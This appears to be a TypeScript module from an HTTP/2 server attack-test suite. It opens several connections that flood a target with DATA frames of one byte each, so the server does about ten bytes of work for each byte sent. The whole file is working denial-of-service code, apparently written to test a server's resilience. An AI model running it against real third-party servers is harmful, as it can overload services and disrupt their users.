// Uploads in DATA frames of one byte: ten bytes of ours to read for each of theirs.

import { flag, frame, frameType } from '../support/http2-frames.ts';
import { type Attack, inLoops } from './attack.ts';
import { attackConnection, requestFrame } from './frames.ts';

const CONNECTIONS = 4;
/** In one write. */
const FRAMES = 16 * 1024;
/** Of a stream: what fits into the window that we give, 1 MiB, without looking at its updates. */
const WRITES = 48;

export const oneByteData: Attack = {
  name: 'one-byte-data',
  does: `${CONNECTIONS} uploads in DATA frames of one byte`,
  async start(target) {
    const hosts = [target.hosts.http1, target.hosts.h2c];
    const one = frame(frameType.data, 0, 1, Buffer.from('x'));
    const many = Buffer.concat(Array(FRAMES).fill(one));
    let begun = 0;
    return inLoops(target, CONNECTIONS, async (stopped) => {
      const host = hosts[begun++ % hosts.length]!;
      const connection = await attackConnection(target, host);
      await connection.send(requestFrame(1, host, '/', { method: 'POST', flags: flag.endHeaders }));
      for (let i = 0; i < WRITES && !stopped.aborted && !connection.closed; i++) await connection.send(many);
      connection.close();
    });
  },
};
